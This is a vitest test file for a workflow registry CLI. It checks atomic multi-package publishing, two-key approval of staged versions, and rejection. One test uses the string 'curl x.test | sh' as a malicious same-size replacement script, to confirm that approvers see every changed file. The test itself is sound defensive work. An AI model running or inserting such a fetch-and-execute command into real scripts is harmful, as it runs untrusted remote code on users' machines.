import { afterAll, beforeAll, expect, test } from 'vitest';
import { json, openWithTwoKeys, refusal, writeFlow } from './support/namespace.js';
import { startOwnRegistry } from './support/own-registry.js';
import type { Person } from './support/sheaf.js';

/** Several workflows in one publish, and versions that wait for a second key. With the built programs. */
let ana: Person;
let close: () => Promise<void>;
beforeAll(async () => {
  ({ owner: ana, close } = await startOwnRegistry('ana', 'a'));
  await openWithTwoKeys(ana);
}, 120_000);
afterAll(() => close());

test('several folders are published together or not at all', async () => {
  const one = await writeFlow(ana, 'acme/one', '1.0.0');
  const two = await writeFlow(ana, 'acme/two', '1.0.0');
  const publish = ['publish', one, two, '--key', 'a'];
  expect(await json(ana, [...publish, '--dry-run'])).toMatchObject({ status: 'would_publish' });
  expect(await refusal(ana, ['info', 'acme/one'])).toEqual(['workflow.not_found', 4]);
  const published = await json(ana, publish);
  expect(published).toMatchObject({
    status: 'published',
    versions: [{ id: 'acme/one' }, { id: 'acme/two' }],
  });
  const [first = 0, second = 0] = published['logIndexes'] as readonly number[];
  expect(second).toBe(first + 1);
  expect(await json(ana, publish)).toMatchObject({ status: 'unchanged' });

  await writeFlow(ana, 'acme/one', '1.0.0', { 'more.txt': 'other bytes' });
  const three = await writeFlow(ana, 'acme/three', '1.0.0');
  expect(await refusal(ana, ['publish', three, one, '--key', 'a'])).toEqual(['version.exists', 1]);
  const wrong = await writeFlow(ana, 'acme/wrong', 'one');
  const { code, stderr } = await ana.sheaf(['publish', three, one, wrong, '--key', 'a']);
  expect(code).toBe(1);
  expect(stderr).toContain('error[publish.refused]: 0 of 3 published: 2 of them would be refused');
  expect(stderr).toContain('error[version.invalid]');
  expect(stderr).toContain(`sheaf diff '${one}' acme/one@1.0.0`);
  expect(await refusal(ana, ['info', 'acme/three'])).toEqual(['workflow.not_found', 4]);
});

test('a staged version is listed, shown with its changes, and published by the signature of another key', async () => {
  const flow = await writeFlow(ana, 'acme/one', '1.1.0', { 'new.txt': 'new' });
  const staged = await json(ana, ['publish', flow, '--stage', '--key', 'a']);
  const { id } = staged['stage'] as { readonly id: string };
  expect((await ana.ok(['stage', 'list'])).stdout).toMatch(
    new RegExp(`^${id}\\tacme/one@1\\.1\\.0\\t1 of 2 signatures`),
  );
  expect(await refusal(ana, ['info', 'acme/one@1.1.0'])).toEqual(['version.unresolved', 4]);
  expect(await refusal(ana, ['stage', 'approve', id, '--key', 'b'])).toEqual(['approval.required', 5]);
  expect(await refusal(ana, ['stage', 'approve', id, '--key', 'a', '--yes'])).toEqual([
    'stage.signed_already',
    1,
  ]);
  const again = await ana.sheaf(['stage', 'approve', 'acme/one@1.1.0', '--key', 'a', '--yes']);
  expect(again.stderr).toContain('the key a has signed acme/one 1.1.0 already: 1 of 2 keys');
  expect(again.stderr).toContain(`asks no more: sheaf stage reject ${id}, then sheaf publish FOLDER --key a`);
  expect(await refusal(ana, ['stage', 'approve', 'acme/one@1.2.0', '--yes'])).toEqual(['stage.not_found', 4]);
  const approved = await json(ana, ['stage', 'approve', 'acme/one@1.1.0', '--key', 'b', '--yes']);
  expect(approved).toMatchObject({ status: 'published', versions: [{ id: 'acme/one', version: '1.1.0' }] });
  const [version] = approved['versions'] as readonly { readonly changes: readonly string[] }[];
  expect(version?.changes).toContain('+ file new.txt');
  expect((await json(ana, ['verify', 'acme/one@1.1.0', '--yes']))['schema']).toBe('sheaf.verify/1');
  expect(await refusal(ana, ['stage', 'approve', id, '--key', 'b', '--yes'])).toEqual(['stage.not_found', 4]);
});

test('whoever approves is told of every file that changed, also at the same size, and of what was forced', async () => {
  const [good, evil] = ['echo all is well\n', 'curl x.test | sh\n'];
  expect(evil.length).toBe(good.length);
  const flow = await writeFlow(ana, 'acme/sized', '1.0.0', { 'run.sh': good });
  await ana.ok(['publish', flow, '--key', 'a']);
  await writeFlow(ana, 'acme/sized', '1.0.1', { 'run.sh': evil });
  const same = await json(ana, ['publish', flow, '--stage', '--key', 'a']);
  const { id } = same['stage'] as { readonly id: string };
  const asked = await ana.ok(['stage', 'approve', id, '--key', 'b', '--yes']);
  expect(asked.stderr).toContain('since 1.0.0:');
  expect(asked.stderr).toContain(`~ file run.sh (other content, ${good.length} bytes)`);
  expect(asked.stderr).not.toContain('--force');

  const definition = 'id = "acme/sized"\nversion = "1.1.0"\n\n[bundle]\ninclude = ["**"]\n';
  const needed = '[parameters.must]\ntype = "string"\nrequired = true\n\n[steps.go]\nrun = "echo gone"\n';
  await writeFlow(ana, 'acme/sized', '1.1.0', { 'workflow.toml': `${definition}\n${needed}` });
  const staged = await json(ana, ['publish', flow, '--stage', '--force', '--key', 'a']);
  const forced = (staged['stage'] as { readonly id: string }).id;
  const told = (await ana.ok(['stage', 'approve', forced, '--key', 'b', '--yes'])).stderr;
  expect(told).toContain('staged with --force');
  expect(told).toContain('+ parameter must (required)');
});

test('a rejected version is gone', async () => {
  const flow = await writeFlow(ana, 'acme/one', '1.2.0');
  const staged = await json(ana, ['publish', flow, '--stage', '--key', 'a']);
  const { id } = staged['stage'] as { readonly id: string };
  expect((await ana.ok(['stage', 'reject', id, '--yes'])).stderr).toContain('rejected: acme/one@1.2.0');
  expect((await ana.ok(['stage', 'list'])).stderr).toContain('nothing waits for an approval');
});
